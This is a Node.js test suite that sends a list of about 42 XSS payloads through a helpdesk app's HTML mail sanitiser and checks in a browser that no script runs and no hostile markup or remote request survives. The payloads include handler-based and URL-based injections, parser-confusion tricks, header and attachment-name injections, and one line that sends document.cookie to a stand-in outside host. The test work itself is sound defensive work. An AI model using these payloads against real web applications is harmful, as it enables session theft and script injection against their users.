// HTML mail is sanitised (gumbo + an allow-list, src/mail/mail_html.c) before the
// ticket page shows it. Each payload below goes through `heed mail-ingest` into the
// database as an email, and its ticket is opened in Chromium: no script may run
// (window.__pwned stays undefined, no dialog opens), no request may leave for a
// host other than loopback, and no element in the thread carries an on* attribute,
// a javascript: URL, or a dangerous element.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startHeed, heedCli } from '../lib/server.mjs';
import { browserFor } from './helpers.mjs';

const P = 'window.__pwned=1';
const FAR = 'http://198.51.100.7'; // TEST-NET-2: must never be asked for
export const PAYLOADS = [
  `<script>${P}</script>`,
  `<img src=x onerror="${P}">`,
  `<svg onload="${P}"></svg>`,
  `<svg><script>${P}</script></svg>`,
  `<a href="javascript:${P}">click</a>`,
  `<a href="  JaVaScRiPt:alert(1)">click</a>`,
  `<a href="java&#x09;script:alert(1)">tab</a>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<body onload="${P}"><p>body</p></body>`,
  `<div style="background:url(javascript:alert(1))">styled</div>`,
  `<math><mi xlink:href="javascript:alert(1)">math</mi></math>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<input autofocus onfocus="${P}">`,
  `<details open ontoggle="${P}">toggle</details>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//"><a href="x">relative</a>`,
  `<link rel="stylesheet" href="${FAR}/x.css">`,
  `<img src="${FAR}/pixel.gif">`,
  `<style>@import '${FAR}/x.css'; body{background:url(${FAR}/b)}</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${P}>"></noscript>`,
  `<table><tr><td background="javascript:alert(1)" onmouseover="${P}">cell</td></tr></table>`,
  `<p onclick="${P}" onmouseover="${P}">hover me</p>`,
  `<video><source onerror="${P}"></video>`,
  `<audio src=x onerror="${P}"></audio>`,
  `<marquee onstart="${P}">marquee</marquee>`,
  `<!--<img src="--><img src=x onerror=${P}//">`,
  `<svg><animate onbegin="${P}" attributeName="x" dur="1s"></animate></svg>`,
  `<template><script>${P}</script></template>`,
  `<select><style></select><img src=x onerror=${P}></style>`,
  `<a href="data:text/html,<script>alert(1)</script>">data link</a>`,
  `<xmp><img src=x onerror=${P}></xmp>`,
  `<scr<script>ipt>${P}</script>`,
  `<a href="https://example.com/" onclick="${P}">a fine link</a>`,
  `<textarea><img src=x onerror=${P}></textarea>`,
  `<img src="x" onerror="fetch('${FAR}/'+document.cookie)">`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<div><a href="vbscript:msgbox(1)">vb</a><a href="&#106;avascript:alert(1)">entity</a></div>`,
  `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  `<isindex action="javascript:alert(1)" type=image>`,
];

// one email per payload: some multipart/alternative, some HTML only, some with quoted history
function email(i, payload) {
  const id = `<xss-${i}-${Date.now()}@attacker.example>`;
  const html = `<html><head><title>x</title></head><body><p>XSS case ${i}</p>${payload}` +
    (i % 3 === 2 ? `<p>On Mon, someone wrote:</p><blockquote>${payload}</blockquote>` : '') + '</body></html>';
  const head = [`From: "\\"><script>${P}</script>" <xss${i}@attacker.example>`, 'To: help@heed.test',
    `Subject: XSS case ${i} "><img src=x onerror=${P}>`, `Message-ID: ${id}`, 'MIME-Version: 1.0'];
  if (i % 3 === 1) return [...head, 'Content-Type: text/html; charset=utf-8', '', html, ''].join('\r\n');
  const text = `XSS case ${i}\n` + (i % 3 === 2 ? '\nOn Mon, someone wrote:\n> quoted history\n' : '');
  return [...head, 'Content-Type: multipart/alternative; boundary="b0"', '', '--b0',
    'Content-Type: text/plain; charset=utf-8', '', text, '--b0', 'Content-Type: text/html; charset=utf-8', '', html,
    '--b0--', ''].join('\r\n');
}

let heed, ada;
const tickets = [];
before(async () => {
  heed = await startHeed({ demo: true });
  PAYLOADS.forEach((p, i) => {
    const out = heedCli(['mail-ingest', '--db', heed.db], { input: email(i, p) });
    const m = out.match(/new ticket (\d+)/);
    assert.ok(m, `payload ${i} was filed as a new ticket: ${out}`);
    tickets.push(Number(m[1]));
  });
  ada = await browserFor(heed.base, 'ada@heed.test');
});
after(async () => {
  await ada?.context.close();
  await heed?.stop();
});

describe('HTML mail cannot run script', () => {
  it('the probe works: this browser does run an unsanitised payload', async () => {
    const page = await ada.context.newPage(); // about:blank, without heed's CSP
    await page.setContent(`<img src=x onerror="${P}">`);
    await page.waitForFunction(() => window.__pwned === 1);
    await page.close();
  });

  it(`none of ${PAYLOADS.length} payloads runs, loads from afar, or survives as markup`, async () => {
    assert.ok(PAYLOADS.length >= 30);
    const { page, watcher } = ada;
    const dialogs = [], far = [];
    page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
    page.on('request', (r) => { const u = new URL(r.url()); if (!['127.0.0.1', 'localhost'].includes(u.hostname) && u.protocol !== 'data:') far.push(r.url()); });
    let html = 0;
    for (const [i, id] of tickets.entries()) {
      await page.goto(`${heed.base}/tickets/${id}`);
      // open every folded message and wave the mouse over every element of the body
      await page.$$eval('.thread details', (ds) => ds.forEach((d) => { d.open = true; }));
      for (const el of await page.$$('.thread .msg .body *')) await el.hover({ timeout: 500, force: true }).catch(() => {});
      await page.waitForTimeout(50);
      const found = await page.evaluate(() => {
        const bad = [];
        // everything in the thread but heed's own controls (the form that corrects the coach's reading)
        for (const el of document.querySelectorAll('.thread *')) {
          if (el.closest('.msg > form.mood')) continue; // a direct child of the message: never mail content (that is in .body)
          for (const a of el.attributes) {
            if (/^on/i.test(a.name) || a.name === 'srcdoc' || a.name === 'style' || a.name === 'background') bad.push(`${el.tagName} ${a.name}`);
            if (/^\s*(javascript|vbscript|data):/i.test(a.value)) bad.push(`${el.tagName} ${a.name}=${a.value}`);
          }
          if (/^(SCRIPT|IFRAME|OBJECT|EMBED|SVG|MATH|FORM|IMG|STYLE|LINK|META|BASE|INPUT|TEXTAREA|VIDEO|AUDIO|TEMPLATE)$/i.test(el.tagName)) bad.push(el.tagName);
          if (el.tagName === 'A' && el.getAttribute('href') && !/\bnoopener\b/.test(el.getAttribute('rel') || '')) bad.push('a without rel=noopener');
        }
        return { pwned: window.__pwned, bad, html: document.querySelectorAll('.thread .mail-html').length };
      });
      html += found.html;
      assert.equal(found.pwned, undefined, `payload ${i} ran: ${PAYLOADS[i]}`);
      assert.deepEqual(found.bad, [], `payload ${i} left markup behind: ${PAYLOADS[i]}`);
      assert.match(await page.textContent('.thread'), new RegExp(`XSS case ${i}(?!\\d)`));
    }
    assert.deepEqual(dialogs, [], 'no dialog opened');
    assert.deepEqual(far, [], 'no request left for another host');
    assert.ok(html >= PAYLOADS.length, 'every message was shown through its HTML rendition');
    watcher.assertClean('while showing hostile mail');
  });

  it('keeps what is safe: a https link gets rel=noopener, text and tables stay', async () => {
    const { page } = ada;
    await page.goto(`${heed.base}/tickets/${tickets[PAYLOADS.findIndex((p) => p.includes('a fine link'))]}`);
    const a = page.locator(".mail-html a", { hasText: "a fine link" }).first();
    assert.equal(await a.getAttribute('href'), 'https://example.com/');
    assert.match(await a.getAttribute('rel'), /noopener/);
    await page.goto(`${heed.base}/tickets/${tickets[PAYLOADS.findIndex((p) => p.includes('<table>'))]}`);
    assert.ok(await page.locator('.mail-html td', { hasText: 'cell' }).count() >= 1);
  });

  it('an attachment with a hostile name and an HTML body is listed as text and only ever downloaded', async () => {
    const { page, watcher } = ada;
    const evil = `"><img src=x onerror=${P}>.html`;
    const raw = ['From: mallory@attacker.example', 'To: help@heed.test', 'Subject: hostile attachment',
      `Message-ID: <xss-attach-${Date.now()}@attacker.example>`, 'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="m0"', '', '--m0', 'Content-Type: text/plain', '', 'see attached', '--m0',
      `Content-Type: text/html; name="${evil.replace(/"/g, '\\"')}"`,
      `Content-Disposition: attachment; filename="${evil.replace(/"/g, '\\"')}"`, '',
      `<script>${P}</script><img src=x onerror="${P}">`, '--m0--', ''].join('\r\n');
    const id = Number(heedCli(['mail-ingest', '--db', heed.db], { input: raw }).match(/new ticket (\d+)/)[1]);
    await page.goto(`${heed.base}/tickets/${id}`);
    const link = page.locator('.thread .attachments a');
    assert.equal(await link.count(), 1);
    assert.equal(await link.textContent(), evil);
    assert.equal(await page.evaluate(() => document.querySelectorAll('.thread img, .thread [onerror]').length), 0);
    const res = await page.request.get(heed.base + await link.getAttribute('href'));
    assert.equal(res.headers()['content-type'], 'application/octet-stream');
    assert.match(res.headers()['content-disposition'], /^attachment; filename="[A-Za-z0-9._-]+"; filename\*=UTF-8''[A-Za-z0-9._%-]+$/);
    assert.equal(res.headers()['x-content-type-options'], 'nosniff');
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    watcher.assertClean();
  });
});
